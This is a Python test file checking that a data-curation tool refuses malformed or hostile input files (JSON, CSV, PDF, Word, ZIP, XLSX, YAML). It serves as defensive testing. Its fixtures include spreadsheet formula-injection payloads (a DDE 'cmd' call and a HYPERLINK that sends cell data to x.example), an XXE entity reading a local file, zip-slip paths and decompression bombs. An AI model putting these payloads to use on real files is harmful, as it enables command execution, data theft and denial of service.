"""Files that are torn, foreign or made to hurt are refused with their place, and say what to do."""

import gzip
import io
import json
import zipfile
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pyarrow as pa
import pytest
from pyarrow import parquet

from curation.curation_settings import Columns
from curation.sources.documents.read_documents import read_documents
from curation.sources.row_formats import numbered_rows
from curation.sources.table_rows import rows_of_table
from curation.sources.tables import unpacked_file
from curation.sources.tables.read_table import read_table, read_tables
from project.errors import InputError
from project.records.data import Row
from tests.curation import made_documents

MIB = 2**20
ROW = '{"prompt": "a", "completion": "b"}'
DEEP = "[" * 100_000


def write(name: str, data: str | bytes) -> Path:
    Path(name).write_bytes(data.encode() if isinstance(data, str) else data)
    return Path(name)


def read_rows(path: Path) -> list[Row]:
    return [row for _, row in numbered_rows(path)]


def read_pairs(path: Path, **options: Any) -> list[str]:
    """The answers of a table's records, or why there is none."""
    columns = Columns(prompt=("prompt",), completion="completion")
    reads = rows_of_table(read_table(path, **options), columns)
    return [
        one.made.completion_text if isinstance(one.made, Row) else str(one.origin.why)
        for one in reads
    ]


Reader = Callable[[Path], object]
READERS: dict[str, Reader] = {"rows": read_rows, "table": read_pairs}


# --- JSON Lines, as rows and as a table ---------------------------------------------------------


@pytest.mark.parametrize("name", READERS)
@pytest.mark.parametrize(
    ("second", "complaint"),
    [
        ('{"prompt": "a", "compl', r":2: .*(cut off|Unterminated)"),
        (f'{{"prompt": "a", "completion": {DEEP}', r":2: .*nested too deep"),
        ('{"prompt": ' + '{"a":' * 100_000, r":2: .*nested too deep"),
        ('{"prompt": "a", "completion": "\\ud83d"}', r":2: .*half of a character"),
        ('{"prompt": "a", "prompt": "c", "completion": "b"}', r":2: .*key 'prompt' twice"),
        ('{"prompt": "a\0", "completion": "b"}', r":2: .*NUL"),
        ('{"prompt": "a", "completion": ' + "9" * 5000 + "}", r":2: .*number that is too long"),
        ("version https://git-lfs.github.com/spec/v1", r":2: "),
        (b'{"prompt": "a", "completion": "\xe3\xe2\xe5"}', r":2: is not UTF-8.*encoding"),
        ('{"prompt": "' + "a" * 17 * MIB + '", "completion": "b"}', r":2: .*longer than 16 MiB"),
        ("a" * 17 * MIB, r":2: .*longer than 16 MiB"),
    ],
)
def test_a_line_that_cannot_be_read_is_named(
    name: str, second: str | bytes, complaint: str
) -> None:
    line = second.encode() if isinstance(second, str) else second
    path = write("a.jsonl", f"{ROW}\n".encode() + line + f"\n{ROW}".encode())
    with pytest.raises(InputError, match=r"a\.jsonl" + complaint):
        READERS[name](path)


@pytest.mark.parametrize("name", READERS)
def test_a_file_of_one_endless_line_is_refused_before_it_is_read(name: str) -> None:
    with Path("a.jsonl").open("wb") as file:
        file.write(b'{"prompt": "')
        file.truncate(200 * MIB)
    with pytest.raises(InputError, match=r"a\.jsonl.*:1: is longer than 16 MiB"):
        READERS[name](Path("a.jsonl"))


@pytest.mark.parametrize("name", READERS)
def test_a_pointer_of_git_lfs_is_no_file(name: str) -> None:
    path = write("a.jsonl", "version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 3\n")
    with pytest.raises(InputError, match="git lfs pull"):
        READERS[name](path)


@pytest.mark.parametrize("mark", ["\u2028", "\u2029", "\x85"])
def test_characters_that_pass_for_line_ends_are_parts_of_a_text(mark: str) -> None:
    text = json.dumps({"prompt": "a", "completion": f"b{mark}c"}, ensure_ascii=False)
    path = write("a.jsonl", f"{text}\n{ROW}\n")
    assert [row.completion_text for row in read_rows(path)] == [f"b{mark}c", "b"]
    assert read_pairs(path) == [f"b{mark}c", "b"]


def test_nan_is_no_value_of_a_row() -> None:
    path = write("a.jsonl", '{"prompt": "a", "completion": NaN}')
    with pytest.raises(InputError, match=r"a\.jsonl:1: .*NaN"):
        read_rows(path)
    assert read_pairs(path) == ["without an answer"]


def test_rows_in_an_older_encoding_are_read_where_it_is_named() -> None:
    asked = "Какая сейчас ставка по вкладам для новых клиентов банка?"
    record = json.dumps({"prompt": asked, "completion": "да"}, ensure_ascii=False)
    path = write("a.jsonl", record.encode("cp1251"))
    with pytest.raises(InputError, match=r"a\.jsonl:1: is not UTF-8.*likely cp1251"):
        read_rows(path)
    ((_, row),) = numbered_rows(path, encoding="cp1251")
    assert row.completion_text == "да"


def test_a_list_of_records_may_be_one_long_line() -> None:
    records = [{"prompt": f"{i}" * 1000, "completion": "b"} for i in range(10)] * 2000
    assert len(read_pairs(write("a.json", json.dumps(records)))) == 20_000


def test_a_packed_file_that_inflates_without_end_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(unpacked_file, "LARGEST", 8 * MIB)
    path = write("a.jsonl.gz", gzip.compress(bytes(64 * MIB)))
    with pytest.raises(InputError, match="unpacks to more than 8 MiB"):
        read_pairs(path)


# --- CSV ----------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-sum(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=A1+B2",
    "=Sheet1!A1",
    " =IMPORTXML(A1,B1)",
    "=IF(A1>3,1,2)",
]
TEXTS = [
    "@bank my card is gone (again)",
    "@SUM41 rocks",
    "- first, call us (free)",
    "-5 %",
    "+49 30 1234567",
    "+1 (555) 123 4567",
    "= 42",
    "=> see below (page 3)",
    "=) thanks",
    "== Header ==",
    "-f(x) is the answer",
    "-sin(x) + C",
    "=cos(x)",
    "@NASA(Houston) hello",
    "- a | b! C",
    "=",
    "-",
    "@",
    "--help (or -h) shows it",
    "=/= is not equal",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_of_a_spreadsheet_is_no_text(text: str) -> None:
    quoted = text.replace('"', '""')
    path = write("a.csv", f'prompt,completion\na,b\nc,"{quoted}"\n')
    with pytest.raises(InputError, match=r"a\.csv:3: .*formula.*'completion'"):
        read_pairs(path)
    assert read_pairs(path, skip=True) == ["b", "unreadable"]


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_that_begins_like_a_formula_is_read(text: str) -> None:
    path = write("a.csv", f'prompt,completion\na,"{text}"\nb,c\n')
    assert read_pairs(path)[1] == "c"


def test_a_formula_in_json_is_a_text() -> None:
    path = write("a.jsonl", json.dumps({"prompt": "sum?", "completion": "=SUM(A1:A9)"}))
    assert read_pairs(path) == ["=SUM(A1:A9)"]


def test_a_csv_of_one_endless_line_is_refused_with_its_line() -> None:
    path = write("a.csv", "prompt,completion\na," + "b" * 17 * MIB)
    with pytest.raises(InputError, match=r"a\.csv:2: .*longer than 16 MiB"):
        read_pairs(path)


# --- Parquet ------------------------------------------------------------------------------------


def test_a_nested_column_is_refused_where_a_text_is_asked_for_and_else_left_aside() -> None:
    nested = [{"text": "a"}, {"text": "b"}]
    parquet.write_table(pa.table({"prompt": ["p", "q"], "completion": nested}), "a.parquet")
    with pytest.raises(InputError, match=r"a\.parquet: completion: .*lists or objects"):
        read_pairs(Path("a.parquet"))
    columns = {"prompt": ["p", "q"], "completion": ["a", "b"], "meta": [{"by": ["x"]}, {"by": []}]}
    parquet.write_table(pa.table(columns), "a.parquet")
    assert read_pairs(Path("a.parquet")) == ["a", "b"]


# --- documents ----------------------------------------------------------------------------------


def read(path: Path) -> list[str]:
    return [one.origin.why or "read" for one in read_documents(path)]


def of_one_page(*content: bytes) -> bytes:
    font, thing = b"/Font << /F1 3 0 R >>", b"/XObject << /X 6 0 R >>"
    resources = b"/Resources << " + font + thing + b" >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] " + resources
    tree = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"]
    objects = [*tree, made_documents.FONT, page + b" /Contents 5 0 R >>", *content]
    return made_documents.of_objects(objects)


def test_a_pdf_whose_pages_hold_themselves_is_refused() -> None:
    loop = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]
    with pytest.raises(InputError, match=r"a\.pdf: is a broken PDF"):
        read(write("a.pdf", made_documents.of_objects(loop)))


def test_a_pdf_whose_drawing_draws_itself_ends() -> None:
    about = "/Type /XObject /Subtype /Form /Resources << /XObject << /X 6 0 R >> >> "
    drawing = made_documents.stream(b"/X Do /X Do", about)
    path = write("a.pdf", of_one_page(made_documents.stream(b"/X Do"), drawing))
    assert read(path)[0].startswith("without a text")


def test_a_pdf_that_inflates_without_end_is_refused() -> None:
    packed = zlib.compress(b"BT (a) Tj ET\n" * 8 * MIB)
    path = write("a.pdf", of_one_page(made_documents.stream(packed, "/Filter /FlateDecode ")))
    with pytest.raises(
        InputError, match=r"a\.pdf: is a broken PDF \(LimitReachedError\): print it"
    ):
        read(path)


@pytest.mark.parametrize(
    ("name", "data", "complaint"),
    [
        ("a.pdf", made_documents.pdf([["abc"]])[:200], "is a broken PDF"),
        ("a.pdf", b"%PDF-1.4\n1 0 obj\n" + DEEP.encode(), "is a broken PDF"),
        ("a.docx", b"PK\3\4 torn", "is no Word document"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old or an encrypted Word document"),
        ("a.html", b"<div>" * 100_000, "nested too deep: save it as text"),
        ("a.txt", bytes(range(256)), "is binary data"),
        ("a.md", b"version https://git-lfs.github.com/spec/v1\n", "git lfs pull"),
        ("a.md", b"# a\n" * MIB, "at most 2 MiB are read: split it"),
    ],
)
def test_a_document_that_cannot_be_read_is_named(name: str, data: bytes, complaint: str) -> None:
    with pytest.raises(InputError, match=f"{name}: .*{complaint}"):
        read(write(name, data))


@pytest.mark.parametrize("name", ["a.txt", "a.md", "a.html", "a.pdf", "a.docx"])
def test_a_document_of_200_megabytes_is_refused_unread(name: str) -> None:
    with Path(name).open("wb") as file:
        file.truncate(200 * MIB)
    with pytest.raises(InputError, match="200 MiB large, and at most"):
        read(Path(name))


def word_document() -> Path:
    document = docx.Document()
    document.add_paragraph("said")
    document.save("a.docx")
    return Path("a.docx")


@pytest.mark.parametrize("part", ["word/document.xml", "word/media/picture.png"])
def test_a_word_document_that_inflates_without_end_is_refused(part: str) -> None:
    path = word_document()
    made_documents.with_part(path, part, b"<a>" + bytes(300 * MIB))
    assert path.stat().st_size < MIB
    with pytest.raises(InputError, match=r"a\.docx: inflates to 300 MiB"):
        read(path)


def test_what_a_word_document_names_outside_of_it_is_not_read() -> None:
    path = word_document()
    Path("secret").write_text("secret")
    body = made_documents.part(path, "word/document.xml").split(b"?>", 1)[1]
    outside = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "{Path("secret").resolve()}">]>'
    made_documents.with_part(
        path, "word/document.xml", outside.encode() + body.replace(b"said", b"&x;")
    )
    assert all(b"secret" not in str(one.made).encode() for one in read_documents(path))


def test_a_zip_file_of_something_else_is_no_word_document() -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as parts:
        parts.writestr("a.txt", "x")
    with pytest.raises(InputError, match="is a broken Word document"):
        read(write("a.docx", data.getvalue()))


# --- One list that holds all records -------------------------------------------------------------


LONG_TEXT = "a" * 17 * MIB


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        (f'[\n{{"prompt": "a"}},\n{{"prompt": "{LONG_TEXT}"}}]', r":3: is longer than 16 MiB"),
        (f'{{"rows": [\n{{"prompt": "a"}},{{"prompt": "{LONG_TEXT}"}}]}}', r":2: is longer than"),
        (f'[\n{{"prompt": "a"}},\n{{"prompt": "{LONG_TEXT}', r":3: is not JSON: it is cut off"),
        (f'{{"messages": [{{"role": "user", "content": "{LONG_TEXT}"}}]}}', r":1: is longer than"),
    ],
)
def test_a_record_of_a_list_that_is_too_long_is_named_by_its_line(
    text: str, complaint: str
) -> None:
    with pytest.raises(InputError, match=r"a\.json" + complaint):
        read_table(write("a.json", text))


def test_a_json_value_that_is_too_large_to_be_read_as_one_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    record = json.dumps({"prompt": ["a"], "completion": "b" * 1000})
    monkeypatch.setattr(unpacked_file, "LARGEST_VALUE", 8 * MIB)
    many = [record] * 18_000
    assert len(read_table(write("a.jsonl", "\n".join(many))).rows) == 18_000
    with pytest.raises(InputError, match="one JSON value of more than 8 MiB: save it as JSON L"):
        read_table(write("a.json", f"[{','.join(many)}]"))


def test_a_list_on_one_long_line_is_read_whatever_brackets_its_texts_hold() -> None:
    record = {"prompt": 'a "[" or {', "completion": "]" * 1000}
    path = write("a.json", json.dumps([record] * 18_000))
    assert len(read_table(path).rows) == 18_000


def test_what_is_no_table_is_told_by_its_kind() -> None:
    text = '<faq lang="en"><q>What, now?</q></faq>\n<faq/>\n'
    with pytest.raises(InputError, match=r"data\.csv: is XML or HTML: a table is CSV"):
        read_table(write("data.csv", text))


def test_a_tag_in_a_header_or_a_cell_is_no_page() -> None:
    text = "<id>,prompt,completion\n1,<b>What</b>?,<i>That</i>\n"
    assert read_table(write("a.csv", text)).columns == ("<id>", "prompt", "completion")


# --- archives and workbooks -----------------------------------------------------------------------

FAQ = b"question,answer\nWhat?,That.\n"
BIG = 64 * MIB


def archive(name: str, parts: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(name, "w", method) as packed:
        for part, data in parts.items():
            packed.writestr(part, data)
    return Path(name)


def workbook(*rows: Sequence[object]) -> Path:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save("a.xlsx")
    return Path("a.xlsx")


@pytest.mark.parametrize(
    ("parts", "complaint"),
    [
        ({}, "a.zip: is empty|a.zip: is a ZIP archive without CSV"),
        ({"notes.md": b"x"}, "a.zip: is a ZIP archive without CSV, .*: unpack it first"),
        ({"../b.csv": FAQ}, r"a.zip: holds '\.\./b.csv', a path that leads out of it"),
        ({"/etc/b.csv": FAQ}, "a.zip: holds '/etc/b.csv', a path that leads out of it"),
        ({"c:\\b.csv": FAQ}, "a.zip: holds 'c:.*b.csv', a path that leads out of it"),
        ({"b.csv": FAQ + b"one\n"}, "a.zip/b.csv:3: has 1 field, the header has 2"),
        ({"b.csv": gzip.compress(bytes(BIG))}, "a.zip/b.csv: unpacks to more than 8 MiB"),
        ({"b.csv": bytes(BIG)}, "a.zip: unpacks to more than 8 MiB"),
        ({f"{i}.csv": bytes(MIB) for i in range(9)}, "a.zip: unpacks to more than 8 MiB"),
        ({"word/document.xml": b"x"}, "a.zip: is a Word document"),
        ({"content.xml": b"x"}, "a.zip: is an OpenDocument file: save it as XLSX"),
        ({"xl/workbook.bin": b"x"}, "a.zip: is an Excel file of another format"),
        ({"xl/workbook.xml": b"x"}, "a.zip: is a broken Excel file"),
    ],
)
def test_an_archive_that_nobody_should_unpack_is_refused(
    parts: dict[str, bytes], complaint: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(unpacked_file, "LARGEST", 8 * MIB)
    path = archive("a.zip", parts)
    assert path.stat().st_size < MIB
    with pytest.raises(InputError, match=complaint):
        read_tables(path)


def test_an_archive_in_an_archive_is_not_unpacked() -> None:
    inner = archive("b.zip", {"b.csv": FAQ}).read_bytes()
    with pytest.raises(InputError, match=r"a\.zip/b\.csv: is an archive in an archive"):
        read_tables(archive("a.zip", {"b.csv": inner}))


@pytest.mark.parametrize("place", [0, 5, 30, 60, -30, -9])
def test_a_cut_archive_is_broken(place: int) -> None:
    data = archive("a.zip", {"b.csv": FAQ * 99}, method=zipfile.ZIP_STORED).read_bytes()
    for torn in (data[: place or 4], data[: place or 40] + b"????" + data[(place or 40) + 4 :]):
        with pytest.raises(InputError, match=r"^a\.zip"):
            read_tables(write("a.zip", torn))


def test_an_encrypted_file_in_an_archive_is_named() -> None:
    data = bytearray(archive("a.zip", {"b.csv": FAQ}).read_bytes())
    for mark, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        data[data.index(mark) + flags] |= 1
    with pytest.raises(InputError, match=r"^a\.zip/b\.csv: is encrypted in its archive"):
        read_tables(write("a.zip", bytes(data)))


@pytest.mark.parametrize(
    ("rows", "complaint"),
    [
        ([("question", "answer"), ("a", "b"), ("c", "=A1&B1", "=A1")], ":3: holds a formula"),
        ([("question", "answer"), ("a", "b"), ("c", "#REF!")], ":3: holds #REF!, the error"),
        ([("question", "question"), ("a", "b")], ":1: has the column 'question' twice"),
        ([("question", "answer"), ("a", "b"), ("question", "answer")], ":3: says the header again"),
        ([("question", "answer"), ("a", "b", "c")], ":2: has a value in a column that has no name"),
        ([], ": is a workbook without a cell"),
    ],
)
def test_a_cell_that_cannot_be_read_is_named_by_its_row(
    rows: list[Sequence[object]], complaint: str
) -> None:
    with pytest.raises(InputError, match=rf"^a\.xlsx{complaint}"):
        read_tables(workbook(*rows))


def test_of_two_sheets_the_larger_is_read_though_a_title_stands_above_its_names() -> None:
    book = openpyxl.load_workbook(workbook(("Our FAQ",), ("question", "answer"), ("a", "b")))
    notes = book.create_sheet("notes")
    notes.append(("author", "date"))
    book.save("a.xlsx")
    with pytest.raises(InputError, match=r"^a\.xlsx:2: .*delete a title above"):
        read_tables(Path("a.xlsx"))


def test_a_workbook_that_inflates_without_end_is_refused() -> None:
    path = workbook(("question", "answer"), ("a", "b"))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/media/picture.png", bytes(600 * MIB))
    with pytest.raises(InputError, match=r"a\.xlsx: inflates to 600 MiB, more than is read"):
        read_tables(path)


def test_a_formula_whose_value_was_saved_is_read_as_people_see_it() -> None:
    path = workbook(("question", "answer"), (2, "=A2&A2"), ("c", "d"))
    data = made_documents.part(path, "xl/worksheets/sheet1.xml")
    saved = data.replace(b"<v></v>", b"<v>22</v>").replace(b"<v />", b"<v>22</v>")
    made_documents.with_part(path, "xl/worksheets/sheet1.xml", saved)
    (table,) = read_tables(path)
    assert [row.fields["answer"] for row in table.rows] == [22, "d"]


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("a: [1", r":\d: is not YAML"),
        ("rows:\n- a: &x 1\n  b: [1]\n- &y {a: 1, b: 2}\n- *y\n", ":4: has an anchor"),
        ("rows:\n- question: a\n  question: b\n", ":3: has the key 'question' twice"),
        ("version: 3\npipeline: []\n", ": holds no records: of YAML, rasa"),
        ("responses:\n  utter_a:\n  - text: b\n", ": holds rasa's answers, and no questions"),
        ("[" * 5000, ":1: is not YAML"),
    ],
)
def test_yaml_that_is_no_table_is_named_with_its_line(text: str, complaint: str) -> None:
    with pytest.raises(InputError, match=rf"^a\.yml{complaint}"):
        read_tables(write("a.yml", text))
